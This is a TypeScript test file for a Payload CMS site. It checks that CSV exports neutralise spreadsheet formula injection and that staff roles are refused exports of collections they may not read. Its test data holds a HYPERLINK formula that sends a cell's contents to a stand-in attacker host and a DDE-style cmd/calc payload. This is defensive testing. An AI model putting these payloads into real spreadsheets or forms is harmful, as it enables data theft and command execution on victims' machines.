import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import {
  contactData,
  graphql as publicGraphql,
  seedFormsAndSettings,
  startedAMinuteAgo,
  SUBMIT,
  type SeededForms,
} from '../helpers/forms'
import { startPayload, type TestPayload } from '../helpers/payload'
import { startSmtpServer, type MailSink } from '../helpers/smtp'

/**
 * Staff exports: no cell of a CSV the product writes is a live spreadsheet formula, and support's
 * export endpoints refuse at once a collection support may not read.
 */
let smtp: MailSink
let app: TestPayload
let payload: Payload
let forms: SeededForms
let rest: (typeof import('../helpers/http'))['rest']
let support = ''
let editor = ''

const base = 'http://127.0.0.1:3000'

beforeAll(async () => {
  smtp = await startSmtpServer()
  app = await startPayload({
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(smtp.port),
    SMTP_SECURE: 'false',
    SITE_URL: 'http://site.test',
    RATE_LIMIT_MULTIPLIER: '100',
  })
  payload = app.payload
  forms = await seedFormsAndSettings(payload)
  ;({ rest } = await import('../helpers/http'))
  for (const role of ['support', 'editor'] as const) {
    const email = `${role}@unbound.example`
    const password = `${role}-password-1`
    await payload.create({ collection: 'users', data: { email, password, role } })
    const { token } = await payload.login({ collection: 'users', data: { email, password } })
    if (role === 'support') support = token!
    else editor = token!
  }
})

afterAll(async () => {
  await app?.stop()
  await smtp?.stop()
})

/** RFC 4180: fields separated by commas, quoted when they hold commas, quotes or line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const body = text.replace(/^\uFEFF/, '')
  for (let i = 0; i < body.length; i += 1) {
    const char = body[i]!
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"'
        i += 1
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\n' || (char === '\r' && body[i + 1] === '\n')) {
      if (char === '\r') i += 1
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
    } else cell += char
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}

/** The CSV's rows as records by column name. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text)
  return rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i] ?? ''])))
}

/** A POST through Payload's REST route handler whose answer is returned unread. */
async function postUnread(path: string, token: string, body: unknown): Promise<Response> {
  const [{ default: config }, { REST_POST }] = await Promise.all([
    import('@payload-config'),
    import('@payloadcms/next/routes'),
  ])
  return REST_POST(config)(
    new Request(`${base}${path}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `JWT ${token}` },
      body: JSON.stringify(body),
    }),
    { params: Promise.resolve({ slug: path.replace(/^\/api\//, '').split('/') }) },
  )
}

// What visitors typed (through the public form) and what staff wrote (in the admin).
const formulaNames = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', '+1', '-2', '@SUM(1+1)']
const formulaNotes = ['\tcmd', '\r=1+1']

describe('CSV exports of leads', () => {
  const submitted: Record<string, number | string> = {}

  beforeAll(async () => {
    for (const [index, name] of [...formulaNames, 'Ada Lovelace'].entries()) {
      const { body } = await publicGraphql(payload, SUBMIT, {
        form: String(forms.contact),
        locale: 'en',
        data: contactData({ name, email: `visitor${index}@example.com`, message: '1 + 1 = 2' }),
        startToken: startedAMinuteAgo(),
      })
      expect(body.data?.submitForm.ok, JSON.stringify(body)).toBe(true)
      submitted[name] = body.data!.submitForm.id
    }
    for (const note of formulaNotes) {
      const { id } = await payload.create({
        collection: 'form-submissions',
        data: { form: forms.contact, submissionData: [], status: 'new' },
        context: { skipNotification: true },
      })
      const patched = await rest('PATCH', `/api/form-submissions/${id}`, {
        token: support,
        body: { internalNotes: note },
      })
      expect(patched.status).toBe(200)
      submitted[note] = id
    }
  })

  /** Every cell holding an attack starts with an apostrophe followed by what was typed; the rest is as stored. */
  function expectNeutralised(csv: string) {
    const rows = records(csv)
    const byId = (id: number | string) => rows.find((row) => row.id === String(id))!
    for (const name of formulaNames) {
      const row = byId(submitted[name]!)
      expect(row.name, name).toBe(`'${name}`)
      const cells = Object.entries(row).filter(([, value]) => value.endsWith(name))
      expect(cells.length, name).toBeGreaterThanOrEqual(2) // the name and its submission entry
      for (const [column, value] of cells) expect(value, column).toBe(`'${name}`)
    }
    for (const note of formulaNotes)
      expect(byId(submitted[note]!).internalNotes, JSON.stringify(note)).toBe(`'${note}`)
    const plain = byId(submitted['Ada Lovelace']!)
    expect(plain.name).toBe('Ada Lovelace')
    expect(plain.email).toBe('visitor4@example.com')
    expect(Object.values(plain)).toContain('1 + 1 = 2')
    for (const row of rows)
      for (const [column, value] of Object.entries(row))
        expect(value, `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/)
  }

  it("support's download holds no live formula", async () => {
    const csv = await rest('POST', '/api/exports/download', {
      token: support,
      body: { data: { collectionSlug: 'form-submissions', format: 'csv' } },
    })
    expect(csv.status, csv.text).toBe(200)
    expectNeutralised(csv.text)
  })

  it('a saved export, written by the job, holds no live formula either', async () => {
    const created = await rest('POST', '/api/exports', {
      token: support,
      body: { name: 'leads', collectionSlug: 'form-submissions', format: 'csv' },
    })
    expect(created.status, created.text).toBe(201)
    await payload.jobs.run()
    const exported = await payload.findByID({
      collection: 'exports',
      id: created.json.doc.id,
      overrideAccess: true,
    })
    expect(exported.filename).toBeTruthy()
    const file = await rest('GET', `/api/exports/file/${exported.filename}`, { token: support })
    expect(file.status).toBe(200)
    expectNeutralised(file.text)
  })

  it('a JSON export keeps the values as stored', async () => {
    const json = await rest('POST', '/api/exports/download', {
      token: support,
      body: { data: { collectionSlug: 'form-submissions', format: 'json' } },
    })
    expect(json.status).toBe(200)
    const names = (json.json as { name?: string }[]).map((doc) => doc.name)
    for (const name of formulaNames) expect(names).toContain(name)
  })
})

describe('CSV exports of any other collection', () => {
  it("neutralise what a customer wrote into support's export of customers", async () => {
    const email = 'shop@example.com'
    const password = 'customer-password-1'
    const created = await payload.create({
      collection: 'customers',
      data: { email, password },
      disableVerificationEmail: true,
    })
    await payload.update({ collection: 'customers', id: created.id, data: { _verified: true } })
    const { token } = await payload.login({ collection: 'customers', data: { email, password } })
    const name = '@SUM(1+1)*cmd|" /C calc"!A0'
    const renamed = await rest('PATCH', `/api/customers/${created.id}`, { token, body: { name } })
    expect(renamed.status, renamed.text).toBe(200)

    const csv = await rest('POST', '/api/exports/download', {
      token: support,
      body: { data: { collectionSlug: 'customers', format: 'csv' } },
    })
    expect(csv.status).toBe(200)
    const row = records(csv.text).find((record) => record.email === email)!
    expect(row.name).toBe(`'${name}`)
  })
})

describe("support's export endpoints", () => {
  it('refuse at once a download of a collection support may not read', async () => {
    for (const collectionSlug of ['locks', 'provisioning-callbacks']) {
      const response = await postUnread('/api/exports/download', support, {
        data: { collectionSlug, format: 'csv' },
      })
      const status = response.status
      if (status !== 403) await response.body?.cancel()
      expect(status, collectionSlug).toBe(403)
      expect(await response.text()).not.toContain(collectionSlug === 'locks' ? 'key' : 'callbackId')
    }
  })

  it('refuse the preview of such a collection and its export', async () => {
    const preview = await rest('POST', '/api/exports/export-preview', {
      token: support,
      body: { collectionSlug: 'locks', format: 'csv' },
    })
    expect(preview.status).toBe(403)
    const before = await payload.count({ collection: 'exports', overrideAccess: true })
    const created = await rest('POST', '/api/exports', {
      token: support,
      body: { name: 'locks', collectionSlug: 'locks', format: 'csv' },
    })
    expect([400, 403]).toContain(created.status)
    expect((await payload.count({ collection: 'exports', overrideAccess: true })).totalDocs).toBe(
      before.totalDocs,
    )
  })

  it('refuse the import preview of a collection support may not create in', async () => {
    const preview = await rest('POST', '/api/imports/preview-data', {
      token: support,
      body: { collectionSlug: 'pages', format: 'csv', fileData: 'title\nHijacked\n' },
    })
    expect(preview.status).toBe(403)
  })

  it('refuse an editor everything', async () => {
    const response = await postUnread('/api/exports/download', editor, {
      data: { collectionSlug: 'form-submissions', format: 'csv' },
    })
    expect(response.status).toBe(403)
    expect(await response.text()).not.toContain('example.com')
  })
})
